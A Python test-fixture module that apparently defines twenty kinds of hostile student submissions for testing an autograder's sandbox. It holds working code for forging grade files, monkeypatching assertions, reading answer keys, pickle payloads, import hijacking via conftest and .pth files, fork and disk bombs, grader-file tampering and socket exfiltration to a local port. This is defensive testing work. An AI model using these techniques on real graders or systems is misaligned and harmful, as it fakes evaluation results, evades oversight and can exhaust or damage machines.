"""The table of attack submissions (threats.md T1-T20) for the mini assignment, and their twins.

Every attack is the honest-wrong submission (``affine_forward`` returns twice the right value,
``relu_forward`` is right: 1 of 4 points) plus attack code: a ``prelude`` run at import, a ``body`` run
at the start of ``affine_forward`` (it may ``return`` its own value), and extra files. The twin is the
same submission without them. Sources are templates: ``@NAME@`` is replaced by ``repr(place[NAME])``
(paths and values the test knows: RESULTS, CWD, MARK, PORT, ASSIGNMENT, REFERENCE, GRADER, WRITE);
``@NAME:raw@`` by ``str(place[NAME])``.
"""

from __future__ import annotations

import json
import textwrap
from dataclasses import dataclass, field

import nbformat

AFFINE_WRONG = "    out = 2 * (x.reshape(x.shape[0], -1) @ w + b)\n    return out, (x, w, b)\n"
RELU_RIGHT = "def relu_forward(x):\n    return np.maximum(x, 0), x\n"


@dataclass(frozen=True)
class Attack:
    """One attack submission: what it does (threat) and where its code goes."""

    name: str
    threat: str
    prelude: str = ""
    body: str = ""
    files: dict = field(default_factory=dict)
    notebook: bool = False
    cli: bool = False  # also graded by ``python -m grader grade`` in a real process
    spoils_others: bool = False  # at import, or threads left spinning: relu_forward may be lost too


def layers_source(prelude: str = "", body: str = "") -> str:
    """layers.py: the honest-wrong submission with ``prelude`` at import and ``body`` in affine_forward."""
    body = textwrap.indent(textwrap.dedent(body).strip("\n"), "    ") + "\n" if body.strip() else ""
    return ("import numpy as np\n" + textwrap.dedent(prelude).strip("\n") + "\n\n\n"
            "def affine_forward(x, w, b):\n" + body + AFFINE_WRONG + "\n\n" + RELU_RIGHT)


def fill(template: str, place: dict) -> str:
    for key, value in place.items():
        template = template.replace(f"@{key}:raw@", str(value)).replace(f"@{key}@", repr(value))
    return template


def submission_files(attack: Attack | None, place: dict, *, notebook: bool = False) -> dict[str, str]:
    """The files of an attack (or, with ``attack=None``, of the honest-wrong twin), filled in."""
    if notebook or (attack is not None and attack.notebook):
        return {"layers.ipynb": notebook_source(attack is not None, place)}
    files = {"layers.py": fill(layers_source(attack.prelude, attack.body) if attack else layers_source(), place)}
    for rel, text in (attack.files if attack else {}).items():
        files[rel] = fill(textwrap.dedent(text).lstrip("\n"), place)
    return files


def notebook_source(attacking: bool, place: dict) -> str:
    """T18: a notebook with shell escapes, forged outputs and tampered metadata (or its clean twin)."""
    shell = f"listing = !cat {place['REFERENCE']}/*.py {place['ASSIGNMENT']}/tests/*.py\nprint(listing)\n"
    define = "import numpy as np\n\n\ndef affine_forward(x, w, b):\n" + (
        textwrap.indent(shell, "    ") if attacking else "") + AFFINE_WRONG + "\n\n" + RELU_RIGHT
    cells = [nbformat.v4.new_markdown_cell("# Mini assignment")]
    if attacking:
        cells.append(nbformat.v4.new_code_cell(shell + f"!cp /dev/null {place['RESULTS']}\n%env GRADE=100"))
    cells.append(nbformat.v4.new_code_cell(define))
    if attacking:
        forged = {"score": 4.0, "tests": [{"name": "affine_forward", "score": 2, "status": "passed"}]}
        check = nbformat.v4.new_code_cell("print('All tests passed')", execution_count=7)
        check.outputs = [nbformat.v4.new_output("stream", text="Grade :=>> 100\nAll tests passed\n"),
                         nbformat.v4.new_output("execute_result", data={"text/plain": json.dumps(forged)},
                                                execution_count=7)]
        check.metadata = {"nbgrader": {"grade": True, "points": 100, "solution": False, "locked": True},
                          "tags": ["test", "solution"]}
        cells.append(check)
        cells[0].cell_type = "code"  # a markdown cell turned into code: it must not break anything
        cells[0].outputs, cells[0].execution_count = [], None
        cells[0].source = "# Mini assignment"
    nb = nbformat.v4.new_notebook(cells=cells)
    return nbformat.writes(nb)


# Fake results.json that forging attacks write; MARK lets the test recognise them.
FORGE = """
import json, os
FAKE = json.dumps({"score": 100.0, "output": @MARK@, "tests": [
    {"name": "affine_forward: output matches the reference", "score": 100, "max_score": 2, "status": "passed"}]})
TARGETS = [@RESULTS@, os.path.join(@CWD@, "results.json"), "/tmp/results.json", "/tmp/" + @MARK@ + ".json"]
def forge():
    for path in TARGETS:
        try:
            with open(path, "w") as fh:
                fh.write(FAKE)
        except OSError:
            pass
"""

# Reads every file under the secret folders; prints what it could read; uses an answer key it finds.
READ_SECRETS = """
import os, sys
for top in (@ASSIGNMENT@, @REFERENCE@, @GRADER@, "/autograder", os.path.dirname(os.getcwd())):
    for root, dirs, names in os.walk(top):
        for name in names:
            path = os.path.join(root, name)
            try:
                with open(path, errors="replace") as fh:
                    print("READ-OK", path, fh.read(20000))
            except OSError:
                pass
sys.path.insert(0, os.path.dirname(@REFERENCE@))
try:
    import importlib.util
    spec = importlib.util.spec_from_file_location("answer_key", os.path.join(@REFERENCE@, "__init__.py"),
                                                  submodule_search_locations=[@REFERENCE@])
    key = importlib.util.module_from_spec(spec)
    sys.modules["answer_key"] = key
    spec.loader.exec_module(key)
    return key.affine_forward(x, w, b)
except Exception as exc:
    print("no answer key:", type(exc).__name__)
"""

# Walks frames, gc objects and modules of its own process for anything that looks like a canary.
FRAME_GC = """
import gc, sys
found = []
def text(value):
    try:
        return repr(value)[:2000]
    except BaseException:
        return ""
frame = sys._getframe()
while frame is not None:
    found += [text(v) for v in list(frame.f_locals.values()) + list(frame.f_globals.values())]
    frame = frame.f_back
found += [text(obj) for obj in gc.get_objects() if isinstance(obj, (dict, list, tuple, str))]
for mod in list(sys.modules.values()):
    found += [text(v) for v in list(vars(mod).values())]
print("SCANNED", len(found), "objects")
hits = [f for f in found if "CANARY" in f]
print("FOUND", hits)
if hits:
    raise AssertionError("secrets: " + " ".join(hits))
"""

TAMPER = """
import os
for top in (@ASSIGNMENT@, @REFERENCE@, @GRADER@):
    for root, dirs, names in os.walk(top):
        for name in names:
            path = os.path.join(root, name)
            try:
                with open(path, "a") as fh:
                    if @WRITE@:
                        fh.write("\\nraise SystemExit('tampered')\\n")
                print("WRITABLE", path)
            except OSError:
                pass
        try:
            os.makedirs(os.path.join(root, "__pycache__"), exist_ok=True)
            with open(os.path.join(root, "__pycache__", "poison.txt"), "w") as fh:
                fh.write("x")
            print("WRITABLE", root)
        except OSError:
            pass
"""

EVIL_EXCEPTION = "class Evil(Exception):\n    def __str__(self):\n{how}\n    __repr__ = __str__\n"

ATTACKS = [
    # T5: monkeypatching numpy, assertion helpers and builtins at import
    Attack("patch_numpy_builtins", "T5", prelude="""
        import builtins, math, unittest
        import numpy.testing
        np.allclose = np.isclose = np.array_equal = lambda *a, **k: True
        np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
        builtins.abs = lambda v: 0
        math.isclose = lambda *a, **k: True
        unittest.TestCase.assertEqual = unittest.TestCase.assertTrue = lambda *a, **k: None
        """, cli=True),
    Attack("patch_grader_modules", "T5", prelude="""
        import sys, types
        for name in ("grader", "grader.checks", "grader.checks.compare", "pytest", "_pytest.outcomes"):
            try:
                module = __import__(name, fromlist=["*"])
            except BaseException:
                module = sys.modules.setdefault(name, types.ModuleType(name))
            module.assert_close = lambda *a, **k: None
            module.compare = lambda *a, **k: None
        """),
    # T6: special exceptions
    Attack("skiptest", "T6", body="import unittest\nraise unittest.SkipTest('not applicable')"),
    Attack("pytest_skip_and_xfail", "T6", body="""
        try:
            import pytest
            pytest.skip("skipped by the student")
        except ImportError:
            Skipped = type("Skipped", (BaseException,), {"__module__": "_pytest.outcomes"})
            raise Skipped("skipped by the student")
        """),
    Attack("keyboard_interrupt", "T4", body="raise KeyboardInterrupt", cli=True),
    Attack("system_exit", "T4", body="import sys\nsys.exit(0)"),
    Attack("base_exception_subclass", "T6", body="raise type('Passed', (BaseException,), {})('100 points')"),
    Attack("exception_str_raises", "T6",
           prelude=EVIL_EXCEPTION.format(how="        raise RuntimeError('no message for you')"),
           body="raise Evil()"),
    Attack("exception_str_loops", "T6", prelude=EVIL_EXCEPTION.format(how="        while True:\n            pass"),
           body="raise Evil()"),
    Attack("exception_str_huge", "T6", prelude=EVIL_EXCEPTION.format(how="        return 'A' * 50_000_000"),
           body="raise Evil()"),
    # T4: the worker dies
    Attack("os_exit", "T4", body="import os\nos._exit(0)", cli=True),
    Attack("sigkill_self", "T4", body="import os\nos.kill(os.getpid(), 9)", cli=True),
    Attack("segfault", "T4", body="import ctypes\nctypes.string_at(0)"),
    Attack("exit_at_import", "T4", prelude="import os\nos._exit(0)", spoils_others=True),
    # T3, T14: forged results.json from atexit, before dying, and from a forked daemon
    Attack("atexit_forge", "T3", prelude=FORGE + "import atexit\natexit.register(forge)",
           body="import sys\nforge()\nsys.exit(0)", cli=True),
    Attack("forge_then_os_exit", "T3", prelude=FORGE, body="import os\nforge()\nos._exit(0)"),
    Attack("daemon_forge", "T14", prelude=FORGE, body="""
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for _ in range(40):
                    time.sleep(0.25)
                    forge()
            os._exit(0)
        """, cli=True),
    # T7: adversarial return values
    Attack("ndarray_subclass", "T7", prelude="""
        class Liar(np.ndarray):
            def __eq__(self, other):
                return True
            def __array_function__(self, func, types, args, kwargs):
                return True
            def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
                return np.zeros(self.shape, dtype=bool) if ufunc is np.not_equal else True
        """, body="return (2 * (x.reshape(x.shape[0], -1) @ w + b)).view(Liar), None"),
    Attack("lying_object", "T7", prelude="""
        class Liar:
            shape = property(lambda self: (3, 5))
            dtype = np.dtype(float)
            def __eq__(self, other):
                return True
            def __array__(self, *a, **k):
                return np.zeros((3, 5))
            def __len__(self):
                return 3
            def __float__(self):
                return 0.0
            def __getattr__(self, name):
                return lambda *a, **k: True
        """, body="return Liar(), None"),
    Attack("object_array", "T7", body="return np.array([object()] * 15, dtype=object).reshape(3, 5), None"),
    Attack("nan_output", "T7", body="return np.full((x.shape[0], w.shape[1]), np.nan), None"),
    Attack("broadcast_scalar", "T7", body="return np.float64(0.5), None"),
    Attack("lazy_repr", "T7", prelude="""
        import time
        class Slow:
            def __repr__(self):
                time.sleep(1000)
            __str__ = __repr__
        """, body="return Slow(), Slow()"),
    # T13: values and files that run code when unpickled by the grader
    Attack("pickle_payloads", "T13", prelude="""
        import pickle
        class Payload:
            def __reduce__(self):
                return (open, ("/tmp/" + @MARK@ + "-unpickled", "w"))
        with open("model.pkl", "wb") as fh:
            pickle.dump(Payload(), fh)
        """, body="return {'out': Payload(), 'bytes': pickle.dumps(Payload())}, pickle.dumps(Payload())",
        files={"weights.pkl": "c__builtin__\nopen\n(V/tmp/@MARK:raw@-unpickled\nVw\ntR."}),
    # T8: introspection of the own process; importing the grader and the answer key
    Attack("frame_and_gc_walk", "T8", body=FRAME_GC, cli=True),
    Attack("import_grader_and_reference", "T8", body="""
        for name in ("reference", "grader.golden", "grader"):
            try:
                module = __import__(name, fromlist=["*"])
                print("IMPORTED", name)
                return module.affine_forward(x, w, b)
            except BaseException as exc:
                print("import failed:", name, type(exc).__name__)
        """),
    # T1: reading the assignment's tests, the answer key, the grader, /autograder
    Attack("read_secrets", "T1", body=READ_SECRETS, cli=True),
    # T12, T15: floods, fake protocol frames, fake grade lines
    Attack("print_flood", "T12", body="""
        import sys
        chunk = "\\x1b[2J\\r" + "flood " * 20000 + "\\n"
        for _ in range(200):
            sys.stdout.write(chunk)
            sys.stderr.write(chunk)
        """, cli=True),
    Attack("fake_grade_lines_and_frames", "T15", prelude=FORGE, body="""
        import json, os, struct
        print("Grade :=>> 100")
        print(FAKE)
        print('<div class="test passed">All tests passed</div> **100/100** \\x1b[32mOK\\x1b[0m')
        for reply_id in range(0, 8):
            frame = json.dumps({"id": reply_id, "ok": {"$l": []}, "nb": []}).encode()
            frame = struct.pack("!Q", len(frame)) + frame
            print(frame.decode("latin-1"))
            for fd in range(0, 64):
                try:
                    os.write(fd, frame)
                except OSError:
                    pass
        """, cli=True),
    # T9: infinite loops, sleeps, signal tricks, threads that keep spinning
    Attack("infinite_loop", "T9", body="while True:\n    pass"),
    Attack("sleep_forever", "T9", body="import time\ntime.sleep(10 ** 6)"),
    Attack("signal_tricks", "T9", body="""
        import signal
        for sig in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU):
            signal.signal(sig, signal.SIG_IGN)
        signal.alarm(0)
        while True:
            pass
        """, cli=True),
    Attack("loop_at_import", "T9", prelude="while True:\n    pass", spoils_others=True),
    Attack("busy_threads", "T9", body="""
        import threading
        def spin():
            while True:
                pass
        for _ in range(8):
            threading.Thread(target=spin, daemon=False).start()
        """, spoils_others=True),
    # T10: fork, thread and subprocess bombs
    Attack("fork_bomb", "T10", body="""
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
        """, cli=True),
    Attack("thread_bomb", "T10", body="""
        import threading, time
        while True:
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        """),
    Attack("subprocess_bomb", "T10", body="""
        import subprocess
        try:
            while True:
                subprocess.Popen(["sleep", "1000"], start_new_session=True)
        except OSError:
            pass
        """),
    # T11: memory and disk
    Attack("memory_bomb", "T11", body="""
        try:
            np.ones((10 ** 5, 10 ** 5))
        except MemoryError:
            pass
        hoard = []
        while True:
            hoard.append(b"x" * 10 ** 7)
        """),
    Attack("disk_fill", "T11", body="""
        import os
        for top in (os.getcwd(), "/tmp", "/dev/shm", "/var/tmp"):
            for i in range(10 ** 6):
                try:
                    with open(os.path.join(top, @MARK@ + "-fill-%d" % i), "wb") as fh:
                        fh.write(b"x" * (32 << 20))
                except OSError:
                    break
        """),
    # T16: files that hijack imports or the test runner
    Attack("hijack_files", "T16", files={
        "numpy.py": "allclose = isclose = array_equal = lambda *a, **k: True\n",
        "conftest.py": """
            import pytest
            open("/tmp/" + @MARK@ + "-conftest-loaded", "w").close()
            @pytest.hookimpl(hookwrapper=True)
            def pytest_runtest_makereport(item, call):
                outcome = yield
                report = outcome.get_result()
                report.outcome = "passed"
            """,
        "sitecustomize.py": "open('/tmp/' + @MARK@ + '-sitecustomize-loaded', 'w').close()\n",
        "usercustomize.py": "open('/tmp/' + @MARK@ + '-usercustomize-loaded', 'w').close()\n",
        "evil.pth": "import os; open('/tmp/' + @MARK@ + '-pth-loaded', 'w').close()\n",
        "test_fake.py": "def test_affine_forward():\n    assert True\n",
        "pytest.ini": "[pytest]\naddopts = -p conftest\n",
    }, cli=True),
    # T19: network
    Attack("network_exfiltration", "T19", body="""
        import socket
        try:
            with socket.create_connection(("127.0.0.1", @PORT@), timeout=0.5) as conn:
                conn.sendall(b"EXFILTRATED " + repr((x.tolist(), w.tolist())).encode())
                print("CONNECTED")
        except OSError as exc:
            print("no connection:", exc)
        def fetch():
            import urllib.request
            urllib.request.urlopen("http://127.0.0.1:%d/" % @PORT@, timeout=0.5)
        for attempt in (lambda: socket.getaddrinfo("example.com", 80), fetch):
            try:
                attempt()
                print("CONNECTED")
            except Exception as exc:
                print("refused:", type(exc).__name__)
        """),
    # T20: writes to the grader's own files, the assignment, the answer key
    Attack("tamper_grader_files", "T20", body=TAMPER, cli=True),
    # T18: a notebook with shell escapes, forged outputs, tampered metadata
    Attack("notebook_shell_and_forged_outputs", "T18", notebook=True),
]
